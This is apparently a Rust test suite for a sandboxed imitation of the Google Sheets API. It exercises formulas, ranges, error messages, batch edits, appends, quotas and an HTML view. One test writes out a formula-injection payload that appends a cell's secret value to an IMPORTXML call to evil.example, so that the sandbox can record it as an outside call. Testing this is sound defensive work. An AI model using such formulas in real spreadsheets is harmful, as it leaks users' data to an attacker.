//! The stand-in as a client meets it.
#![allow(clippy::needless_pass_by_value)] // `json!` at every call reads better owned.

use serde_json::{Value as Json, json};

use super::account::tests::assertion;
use super::*;

const NOW: Timestamp = Timestamp::from_seconds(1_790_000_000);

/// A client with a token, for whom the quotas are out of the way unless a test is about them.
struct Client {
    sheets: Sheets,
    token: String,
}

impl Client {
    fn new() -> Self {
        let mut settings = Settings::default();
        settings.spreadsheets[0].id = "book".to_owned();
        settings.quotas = Quotas {
            reads_per_user: 10_000,
            writes_per_user: 10_000,
            reads_per_project: 10_000,
            writes_per_project: 10_000,
            ..Quotas::default()
        };
        let mut sheets = Sheets::new(1, &settings);
        let claims = json!({
            "iss": "orders@sandbox.iam.gserviceaccount.com", "aud": "https://oauth2.googleapis.com/token",
            "scope": "https://www.googleapis.com/auth/spreadsheets", "iat": NOW.seconds(), "exp": NOW.seconds() + 3600,
        });
        let form = form_urlencoded::Serializer::new(String::new())
            .extend_pairs([
                ("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"),
                ("assertion", &assertion(&claims)),
            ])
            .finish();
        let answer = sheets.handle(NOW, &Request::post("/token").body(form.into()).unwrap());
        let answer: Json = serde_json::from_slice(answer.body()).unwrap();
        Self { sheets, token: answer["access_token"].as_str().unwrap().to_owned() }
    }

    fn send(&mut self, method: &str, path: &str, body: &Json) -> (u16, Json) {
        let body = if body.is_null() { Bytes::new() } else { body.to_string().into() };
        let request = Request::builder()
            .method(method)
            .uri(format!("/v4/spreadsheets/{path}"))
            .header("authorization", format!("Bearer {}", self.token))
            .body(body)
            .unwrap();
        let response = self.sheets.handle(NOW, &request);
        (response.status().as_u16(), serde_json::from_slice(response.body()).unwrap())
    }

    fn write(&mut self, range: &str, values: Json, option: &str) -> (u16, Json) {
        self.send("PUT", &format!("book/values/{range}?valueInputOption={option}"), &json!({ "values": values }))
    }

    fn type_in(&mut self, range: &str, values: Json) {
        let (status, answer) = self.write(range, values, "USER_ENTERED");
        assert_eq!(status, 200, "{answer}");
    }

    fn read(&mut self, range: &str) -> Json {
        self.read_as(range, "FORMATTED_VALUE")
    }

    fn read_as(&mut self, range: &str, option: &str) -> Json {
        let (status, answer) =
            self.send("GET", &format!("book/values/{range}?valueRenderOption={option}"), &Json::Null);
        assert_eq!(status, 200, "{answer}");
        answer.get("values").cloned().unwrap_or_default()
    }

    fn append(&mut self, range: &str, values: Json, more: &str) -> Json {
        let path = format!("book/values/{range}:append?valueInputOption=RAW{more}");
        let (status, answer) = self.send("POST", &path, &json!({ "values": values }));
        assert_eq!(status, 200, "{answer}");
        answer
    }

    fn change(&mut self, requests: Json) -> (u16, Json) {
        self.send("POST", "book:batchUpdate", &json!({ "requests": requests }))
    }

    fn control(&mut self, method: &str, path: &str, body: &Json) -> (u16, Json) {
        let request = Request::builder().method(method).uri(path).body(body.to_string().into()).unwrap();
        let response = self.sheets.control(NOW, &request, &[]);
        (response.status().as_u16(), serde_json::from_slice(response.body()).unwrap_or_default())
    }
}

fn message(answer: &(u16, Json)) -> (u16, &str) {
    (answer.0, answer.1["error"]["message"].as_str().unwrap_or_default())
}

#[test]
fn raw_keeps_text_and_user_entered_reads_it() {
    let mut client = Client::new();
    let values = json!([["=1+2", "00123", "2026-11-23", "'quoted", 5, true]]);
    client.write("A1:F1", values.clone(), "RAW");
    assert_eq!(client.read("1:1"), json!([["=1+2", "00123", "2026-11-23", "'quoted", "5", "TRUE"]]));
    client.type_in("A2:F2", values);
    assert_eq!(client.read("2:2"), json!([["3", "123", "2026-11-23", "quoted", "5", "TRUE"]]));
    assert_eq!(client.read_as("2:2", "UNFORMATTED_VALUE"), json!([[3, 123, 46_349, "quoted", 5, true]]));
    assert_eq!(client.read_as("2:2", "FORMULA"), json!([["=1+2", 123, 46_349, "quoted", 5, true]]));
}

#[test]
fn formulas_are_worked_out() {
    let mut client = Client::new();
    client.type_in("A1:A4", json!([[1], [2], ["x"], ["=A1+A2"]]));
    for (formula, expected) in [
        ("=1+2*3^2", "19"),
        ("=SUM(A1:A4)", "6"),
        ("=sum(A:A, 10)", "16"),
        ("=AVERAGE(A1:A2)", "1.5"),
        ("=COUNTA(A1:A4)", "4"),
        ("=COUNTIF(A1:A4, \">1\")", "2"),
        ("=IF(A1<A2, \"less\", \"more\")", "less"),
        ("=\"a\"&\"b\"\"c\"&1", "ab\"c1"),
        ("=UPPER(A3)&LEN(\"four\")", "X4"),
        ("=HYPERLINK(\"https://example.com\", \"click\")", "click"),
        ("=VLOOKUP(2, A1:A4, 1)", "2"),
        ("=IFERROR(1/0, \"none\")", "none"),
        ("=Orders!A2", "2"),
        ("='Orders'!A2%", "0.02"),
        ("=1/0", "#DIV/0!"),
        ("=A3+1", "#VALUE!"),
        ("=NOSUCH(1)", "#NAME?"),
        ("=ZZ1", "#REF!"),
        ("=Other!A1", "#REF!"),
        ("=C1", "#REF!"),
        ("=1+", "#ERROR!"),
        ("+1+1", "2"),
    ] {
        client.type_in("C1", json!([[formula]]));
        assert_eq!(client.read("C1"), json!([[expected]]), "{formula}");
    }
    client.type_in("A1", json!([[100]]));
    assert_eq!(client.read("A4"), json!([["102"]]), "a formula follows what it refers to");
}

#[test]
fn injected_formulas_show_as_executed() {
    let mut client = Client::new();
    let formula = "=IMPORTXML(\"https://evil.example/?\"&A1, \"//a\")";
    client.type_in("A1:B1", json!([["secret", formula]]));
    assert_eq!(client.read("B1"), json!([["#REF!"]]));
    let (_, described) = client.control("GET", "/_sandbox/sheets/book", &Json::Null);
    let call = &described["outside_calls"][0];
    assert_eq!((&call["function"], &call["target"]), (&json!("IMPORTXML"), &json!("https://evil.example/?secret")));
    client.write("B1", json!([[formula]]), "RAW");
    assert_eq!(client.control("GET", "/_sandbox/sheets/book", &Json::Null).1["outside_calls"], json!([]));
}

#[test]
fn answers_drop_trailing_emptiness_and_name_the_clipped_range() {
    let mut client = Client::new();
    client.type_in("B2:D4", json!([["a", "", ""], ["", "", ""], ["", "b", ""]]));
    let mut range = |range: &str| client.send("GET", &format!("book/values/{range}"), &Json::Null).1;
    let whole = range("Orders");
    assert_eq!(whole["range"], "Orders!A1:Z1000");
    assert_eq!(whole["values"], json!([[], ["", "a"], [], ["", "", "b"]]));
    assert_eq!(range("Orders!B2:Z5000")["range"], "Orders!B2:Z1000");
    assert_eq!(range("Orders!B4:C")["range"], "Orders!B4:C1000");
    assert_eq!(range("F6:G9"), json!({"range": "Orders!F6:G9", "majorDimension": "ROWS"}));
    let columns = range("B2:C4?majorDimension=COLUMNS");
    assert_eq!((&columns["majorDimension"], &columns["values"]), (&json!("COLUMNS"), &json!([["a"], ["", "", "b"]])));
}

#[test]
fn writing_skips_null_empties_by_empty_text_and_tells_what_it_did() {
    let mut client = Client::new();
    client.type_in("A1:C1", json!([["a", "b", "c"]]));
    let (_, answer) = client.write("A1:C1", json!([[null, "", "x"]]), "RAW");
    assert_eq!(
        answer,
        json!({
            "spreadsheetId": "book", "updatedRange": "Orders!A1:C1",
            "updatedRows": 1, "updatedColumns": 3, "updatedCells": 2,
        })
    );
    assert_eq!(client.read("A1:C1"), json!([["a", "", "x"]]));
    let body = json!({"values": [["p", "q"], ["r"]], "majorDimension": "COLUMNS"});
    let path = "book/values/A2:B3?valueInputOption=RAW&includeValuesInResponse=true";
    let (_, answer) = client.send("PUT", path, &body);
    assert_eq!(answer["updatedData"]["values"], json!([["p", "r"], ["q"]]));
}

#[test]
fn the_grid_has_an_edge() {
    let mut client = Client::new();
    let limits = "exceeds grid limits. Max rows: 1000, max columns: 26";
    for range in ["A1001", "AA1", "A999:A1002"] {
        let rows = json!([["x"], ["x"], ["x"]]);
        let answer = client.write(range, rows, "RAW");
        assert!(message(&answer).1.contains(limits) && answer.0 == 400, "{range}: {answer:?}");
    }
    let beyond = client.send("GET", "book/values/A1001:B1002", &Json::Null);
    assert_eq!(message(&beyond), (400, format!("Range (Orders!A1001:B1002) {limits}").as_str()));
    let narrow = client.write("A1:B1", json!([[1, 2, 3]]), "RAW");
    let words = "Requested writing within range [Orders!A1:B1], but tried writing to column [C]";
    assert_eq!(message(&narrow), (400, words));
    assert_eq!(client.write("B5", json!([[1, 2], [3, 4]]), "RAW").1["updatedRange"], "Orders!B5:C6");
    assert_eq!(client.read("A1:Z4"), Json::Null);
}

#[test]
fn wrong_requests_are_refused_in_googles_words() {
    let mut client = Client::new();
    for (method, path, body, status, part) in [
        ("GET", "other/values/A1", Json::Null, 404, "Requested entity was not found."),
        ("GET", "book/values/Nowhere!A1", Json::Null, 400, "Unable to parse range: Nowhere!A1"),
        ("GET", "book/values/A1?valueRenderOption=NICE", Json::Null, 400, "Invalid value at 'value_render_option'"),
        ("PUT", "book/values/A1", json!({"values": [[1]]}), 400, "'valueInputOption' is required but not specified"),
        ("PUT", "book/values/A1?valueInputOption=MAGIC", json!({}), 400, "\"MAGIC\""),
        ("PUT", "book/values/A1?valueInputOption=RAW", json!({"value": 1}), 400, "Unknown name \"value\""),
        (
            "PUT",
            "book/values/A1?valueInputOption=RAW",
            json!({"values": [[[]]]}),
            400,
            "Invalid values[0][0]: list_value",
        ),
        (
            "PUT",
            "book/values/A1?valueInputOption=RAW",
            json!({"values": [["x".repeat(50_001)]]}),
            400,
            "50000 characters",
        ),
        ("PUT", "book/values/A1?valueInputOption=RAW", json!("x".repeat(2 << 20)), 400, "payload size"),
        ("PATCH", "book", Json::Null, 404, "not found"),
    ] {
        let answer = client.send(method, path, &body);
        let (code, words) = message(&answer);
        assert_eq!(code, status, "{path}");
        assert!(words.contains(part), "{words}");
    }
    client.token = "ya29.other".to_owned();
    let (status, answer) = client.send("GET", "book", &Json::Null);
    assert_eq!((status, &answer["error"]["status"]), (401, &json!("UNAUTHENTICATED")));
}

#[test]
fn a_batch_of_values_is_written_whole_or_not_at_all() {
    let mut client = Client::new();
    let batch = |second: &str| {
        json!({"valueInputOption": "RAW", "data": [
            {"range": "Orders!A1:B1", "values": [["a", "b"]]},
            {"range": second, "values": [["c", "d"]]},
        ]})
    };
    let failed = client.send("POST", "book/values:batchUpdate", &batch("Orders!A1001:B1001"));
    assert!(failed.0 == 400 && message(&failed).1.starts_with("Invalid data[1]: Range (Orders!A1001:B1001)"));
    assert_eq!(client.read("Orders"), Json::Null);
    let (status, answer) = client.send("POST", "book/values:batchUpdate", &batch("Orders!B3:C3"));
    assert_eq!(status, 200);
    for (total, number) in
        [("totalUpdatedRows", 2), ("totalUpdatedColumns", 3), ("totalUpdatedCells", 4), ("totalUpdatedSheets", 1)]
    {
        assert_eq!(answer[total], number, "{total}");
    }
    assert_eq!(answer["responses"][1]["updatedRange"], "Orders!B3:C3");
    let (_, got) = client.send("GET", "book/values:batchGet?ranges=A1:B1&ranges=Orders!C3&ranges=Z9", &Json::Null);
    let values: Vec<_> = got["valueRanges"].as_array().unwrap().iter().map(|range| range.get("values")).collect();
    assert_eq!(values, [Some(&json!([["a", "b"]])), Some(&json!([["d"]])), None]);
}

/// The example of Google's guide: tables at A1:C2 and B4:D6.
#[test]
fn append_finds_the_end_of_the_table_as_google_does() {
    for (range, expected, table) in [
        ("Orders", "Orders!B7", Some("Orders!B4:D6")),
        ("B4", "Orders!B7", Some("Orders!B4:D6")),
        ("C5:D5", "Orders!B7", Some("Orders!B4:D6")),
        ("B2:D4", "Orders!B7", Some("Orders!B4:D6")),
        ("A3:G10", "Orders!B7", Some("Orders!B4:D6")),
        ("A1", "Orders!A3", Some("Orders!A1:C2")),
        ("E4", "Orders!E4", None),
    ] {
        let mut client = Client::new();
        client.type_in("A1:C2", json!([["x", "y", "z"], ["x", "y", "z"]]));
        client.type_in("B4:D6", json!([["x", "y"], ["y", "z"], ["x", "y", "z"]]));
        let answer = client.append(range, json!([["new"]]), "");
        assert_eq!(answer["updates"]["updatedRange"], expected, "{range}");
        assert_eq!(answer.get("tableRange").and_then(Json::as_str), table, "{range}");
    }
}

#[test]
fn append_overwrites_or_inserts_and_grows_the_grid() {
    let mut client = Client::new();
    client.type_in("A1:A4", json!([["head"], ["one"], [""], ["other table"]]));
    client.append("A1", json!([["two"]]), "");
    assert_eq!(client.read("A:A"), json!([["head"], ["one"], ["two"], ["other table"]]));
    client.append("A1", json!([["three"]]), "&insertDataOption=INSERT_ROWS");
    client.type_in("A6", json!([[""]]));
    assert_eq!(client.read("A5"), json!([["three"]]));

    client.type_in("C1001", json!([["last"]]));
    let answer = client.append("C1001", json!([["beyond"]]), "");
    assert_eq!(answer["updates"]["updatedRange"], "Orders!C1002");
    let (_, book) = client.send("GET", "book?fields=sheets.properties.gridProperties", &Json::Null);
    assert_eq!(book, json!({"sheets": [{"properties": {"gridProperties": {"rowCount": 1002, "columnCount": 26}}}]}));
}

#[test]
fn clearing_empties_and_names_the_range() {
    let mut client = Client::new();
    client.type_in("A1:B2", json!([[1, 2], [3, 4]]));
    let (_, answer) = client.send("POST", "book/values/A2:Z:clear", &json!({}));
    assert_eq!(answer, json!({"spreadsheetId": "book", "clearedRange": "Orders!A2:Z1000"}));
    assert_eq!(client.read("Orders"), json!([["1", "2"]]));
    let (_, answer) = client.send("POST", "book/values:batchClear", &json!({"ranges": ["A1", "B1"]}));
    assert_eq!(answer["clearedRanges"], json!(["Orders!A1", "Orders!B1"]));
    assert_eq!(client.read("Orders"), Json::Null);
}

#[test]
fn tabs_are_added_changed_and_deleted_whole_or_not_at_all() {
    let mut client = Client::new();
    let (_, answer) = client.change(json!([
        {"addSheet": {"properties": {"title": "My tab", "sheetId": 7, "gridProperties": {"rowCount": 5, "columnCount": 3}}}},
        {"updateSheetProperties": {"properties": {"sheetId": 0, "title": "Renamed"}, "fields": "title"}},
    ]));
    let grid = &answer["replies"][0]["addSheet"]["properties"]["gridProperties"];
    assert_eq!((grid, &answer["replies"][1]), (&json!({"rowCount": 5, "columnCount": 3}), &json!({})));
    assert_eq!(client.write("'My%20tab'!C5", json!([[1]]), "RAW").1["updatedRange"], "'My tab'!C5");
    assert_eq!(client.write("'My%20tab'!D5", json!([[1]]), "RAW").0, 400);

    for (request, part) in [
        (
            json!({"addSheet": {"properties": {"title": "renamed"}}}),
            "addSheet: A sheet with the name \"renamed\" already",
        ),
        (json!({"deleteSheet": {"sheetId": 99}}), "deleteSheet: No grid with id: 99"),
        (json!({"updateSheetProperties": {"properties": {"sheetId": 7}}}), "At least one field must be listed"),
        (json!({"deleteDimension": {"range": {"sheetId": 7, "dimension": "ROWS"}}}), "delete all the rows"),
        (json!({"appendDimension": {"dimension": "ROWS", "length": 10_000_000}}), "limit of 10000000 cells"),
    ] {
        let answer = client.change(json!([{"addSheet": {"properties": {"title": "Extra"}}}, request]));
        let (status, words) = message(&answer);
        assert!(status == 400 && words.starts_with("Invalid requests[1].") && words.contains(part), "{words}");
        let (_, book) = client.send("GET", "book?fields=sheets.properties.title", &Json::Null);
        assert_eq!(book["sheets"].as_array().unwrap().len(), 2, "a failed batch changes nothing");
    }
    assert_eq!(client.change(json!([{"deleteSheet": {"sheetId": 7}}])).0, 200);
    let last = client.change(json!([{"deleteSheet": {"sheetId": 0}}]));
    assert!(message(&last).1.contains("You can't remove all the sheets in a document."));
    assert_eq!(client.change(json!([{"mergeCells": {}}])).0, 501);
}

#[test]
fn rows_are_sorted_inserted_and_deleted() {
    let mut client = Client::new();
    client.type_in("A1:B5", json!([["key", "n"], ["b", 2], ["", 9], ["A", 10], ["c", 1]]));
    let area = json!({"sheetId": 0, "startRowIndex": 1, "startColumnIndex": 0, "endColumnIndex": 2});
    let sorted_by = |column: u8, order: &str| json!([{"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": column, "sortOrder": order}]}}]);
    client.change(sorted_by(0, "ASCENDING"));
    assert_eq!(client.read("A2:A"), json!([["A"], ["b"], ["c"]]));
    client.change(sorted_by(1, "DESCENDING"));
    assert_eq!(client.read("B2:B"), json!([["10"], ["9"], ["2"], ["1"]]));
    let rows = |start: u8, end: u8| json!({"sheetId": 0, "dimension": "ROWS", "startIndex": start, "endIndex": end});
    client.change(json!([{"deleteDimension": {"range": rows(1, 3)}}, {"insertDimension": {"range": rows(0, 1)}}]));
    assert_eq!(client.read("B:B"), json!([[], ["n"], ["2"], ["1"]]));
}

#[test]
fn quotas_are_per_minute_and_told_in_googles_shape() {
    let mut client = Client::new();
    let (status, quotas) = client.control("PATCH", "/_sandbox/sheets/quotas", &json!({"writes_per_user": 2}));
    assert_eq!((status, &quotas["writes_per_user"]), (200, &json!(2)));
    client.type_in("A1", json!([[1]]));
    client.type_in("A1", json!([[2]]));
    let (status, answer) = client.write("A1", json!([[3]]), "RAW");
    let error = &answer["error"];
    assert_eq!((status, &error["code"], &error["status"]), (429, &json!(429), &json!("RESOURCE_EXHAUSTED")));
    assert_eq!(error["details"][0]["reason"], "RATE_LIMIT_EXCEEDED");
    assert_eq!(error["details"][0]["metadata"]["quota_limit"], "WriteRequestsPerMinutePerUser");
    assert_eq!(client.read("A1"), json!([["2"]]), "reads have a quota of their own");
    assert_eq!(client.control("PATCH", "/_sandbox/sheets/quotas", &json!({"writes": 2})).0, 400);
}

#[test]
fn people_edit_by_hand() {
    let mut client = Client::new();
    client.type_in("A1:B4", json!([["key", "n"], ["c", 1], ["a", 2], ["b", 3]]));
    let edits = json!({"tab": "Orders", "edits": [
        {"sort": {"column": "A"}}, {"set": {"cell": "B2", "value": "=1+1"}}, {"delete_rows": {"from": 3}},
        {"insert_rows": {"before": 2, "count": 1}},
    ]});
    let (status, described) = client.control("POST", "/_sandbox/sheets/book/cells", &edits);
    assert_eq!(status, 200, "{described}");
    assert_eq!(described["tabs"][0]["values"], json!([["key", "n"], [], ["a", "2"], ["c", "1"]]));
    assert_eq!(described["tabs"][0]["entered"][2], json!(["a", "=1+1"]));
    let half = json!({"edits": [{"set": {"cell": "A1", "value": "x"}}, {"set": {"cell": "A9999", "value": "x"}}]});
    assert_eq!(client.control("POST", "/_sandbox/sheets/book/cells", &half).0, 400);
    assert_eq!(client.read("A1"), json!([["key"]]), "a failed edit changes nothing");
}

#[test]
fn spreadsheets_come_and_go() {
    let mut client = Client::new();
    let new = json!({"id": "second", "title": "Second", "tabs": ["One", "Two"]});
    assert_eq!(client.control("POST", "/_sandbox/sheets", &new).0, 201);
    assert_eq!(client.control("POST", "/_sandbox/sheets", &new).0, 409);
    assert_eq!(client.send("GET", "second", &Json::Null).1["sheets"][1]["properties"]["title"], "Two");
    assert_eq!(client.control("DELETE", "/_sandbox/sheets/second", &Json::Null).0, 204);
    assert_eq!(client.send("GET", "second", &Json::Null).0, 404);
}

#[test]
fn the_page_shows_the_sheet_and_escapes_it() {
    let mut client = Client::new();
    client.type_in("A1:C1", json!([["<b>bold</b>", "=1+1", "=IMPORTDATA(\"https://evil.example\")"]]));
    let request = Request::get("/_sandbox/sheets").body(Bytes::new()).unwrap();
    let page = client.sheets.control(NOW, &request, &[]);
    let page = String::from_utf8(page.body().to_vec()).unwrap();
    assert!(page.contains("&#60;b&#62;bold") && !page.contains("<b>bold"));
    assert!(page.contains("title=\"=1+1\">2</td>") && page.contains("IMPORTDATA of https://evil.example"), "{page}");
}
